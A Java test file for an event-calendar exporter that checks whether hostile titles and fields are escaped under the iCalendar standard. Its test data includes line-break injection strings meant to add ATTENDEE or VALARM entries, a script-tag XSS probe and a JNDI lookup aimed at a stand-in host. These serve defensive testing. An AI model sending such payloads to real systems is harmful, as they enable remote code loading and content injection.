package programmheft.ical;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.util.List;
import net.fortuna.ical4j.data.CalendarBuilder;
import net.fortuna.ical4j.model.component.VEvent;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import programmheft.model.Event;
import programmheft.model.Format;
import programmheft.model.Item;
import programmheft.model.Place;
import programmheft.model.Role;
import programmheft.model.Speaker;
import programmheft.model.ThemedRoom;

/** Texts that try to be more than text. */
class InjectionTest {
    private static final String ATTACK = "A;B,C:D\"E\\F\\nEND:VEVENT\\NATTENDEE:mailto:x@y.example";

    static Event hostile() {
        Speaker speaker = Speaker.person("s;p", ATTACK).withAffiliation(ATTACK);
        return Event.builder("hostile", ATTACK)
                .subtitle(ATTACK)
                .motto(ATTACK)
                .place(Place.at(ATTACK, ATTACK))
                .speaker(speaker)
                .themedRoom(ThemedRoom.of("r", ATTACK).withRoom(ATTACK).withGuidingQuestion(ATTACK))
                .day(programmheft.model.Day.on(
                        SampleEvents.FIRST_DAY,
                        Item.builder("END:VEVENT", ATTACK)
                                .subtitle(ATTACK)
                                .text("END:VEVENT\nBEGIN:VALARM\n" + ATTACK)
                                .format(Format.WORKSHOP)
                                .formatWord(ATTACK)
                                .themedRoom(new ThemedRoom.Id("r"))
                                .with(speaker, Role.SPEAKER)
                                .between("10:00", "11:00")
                                .build(),
                        Item.builder("untimed", ATTACK).build()))
                .build();
    }

    @Test
    void adds_no_line_whatever_the_texts_hold() {
        Written written = Written.of(hostile());

        CalendarLint.check(written);
        assertThat(written.entries()).hasSize(2);
        assertThat(written.logicalLines()).noneMatch(line -> line.matches("(ATTENDEE|BEGIN:VALARM).*"));
        assertThat(written.logicalLines().stream().filter("END:VEVENT"::equals)).hasSize(2);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "BEGIN:VALARM",
                "Semikolon; Komma, Doppelpunkt: \"Zitat\"",
                "X:\"quoted\";VALUE=URI",
                "C:/neu, D:/nichts",
                "(╯°□°)╯︵ ┻━┻",
                "🏘🏙️ 都市と人 Ångström café",
                "=?UTF-8?B?QQ==?=",
                "<script>alert(1)</script>",
                "${jndi:ldap://x.example/a}",
                "{0} {1} $1"
            })
    void gives_back_the_title_as_it_was(String title) throws Exception {
        Event event = SampleEvents.oneDay(
                        Item.builder("1", title).between("10:00", "11:00").build())
                .build();
        Written written = Written.of(event);

        assertThat(new CalendarBuilder()
                        .build(new ByteArrayInputStream(written.octets()))
                        .<VEvent>getComponents("VEVENT")
                        .get(0)
                        .getRequiredProperty("SUMMARY")
                        .getValue())
                .isEqualTo(title);
        CalendarLint.check(written);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "a;b | a\\;b",
                "a,b | a\\,b",
                "a\\b | a\\\\b",
                "C:\\neu | C:\\\\neu",
                "a\\;b | a\\\\\\;b",
                "a:b | a:b",
                "\"a\" | \"a\""
            })
    void escapes_as_the_standard_says(String text, String written) {
        assertThat(Texts.escaped(Texts.harmless(text))).isEqualTo(written);
    }

    @Test
    void knows_one_line_break_and_no_other_controls() {
        assertThat(Texts.harmless("a\r\nb\rc\nd\u0085e\u2028f\u2029g")).isEqualTo("a\nb\nc\nd\ne\nf\ng");
        assertThat(Texts.harmless("a\u0000b\u0007c\u001bd\u007fe\u009ff\ufeffg\th"))
                .isEqualTo("a b c d e f g\th");
        assertThat(Texts.harmless("lone \ud83c, pair \ud83c\udfd8")).isEqualTo("lone \ufffd, pair \ud83c\udfd8");
    }

    @Test
    void lets_no_line_break_into_other_values() {
        assertThat(ReadyProperty.value("COLOR", "red\r\nATTENDEE:mailto:x@y.example", ReadyParameters.NONE))
                .hasToString("COLOR:redATTENDEE:mailto:x@y.example\r\n");
    }

    @Test
    void keeps_categories_apart_without_a_comma_inside() {
        assertThat(Written.of(hostile()).entries())
                .extracting(entry -> entry.get("CATEGORIES"))
                .contains("Workshop,A\\;B–C:D\"E\\\\F\\\\nEND:VEVENT\\\\NATTENDEE:mailto:x@y.example");
    }

    @Test
    void writes_one_property_a_text() {
        assertThat(List.of(ReadyProperty.text("SUMMARY", List.of("a\r\nATTENDEE:b"))))
                .allMatch(property -> property.toString().equals("SUMMARY:a\\nATTENDEE:b\r\n"));
    }
}
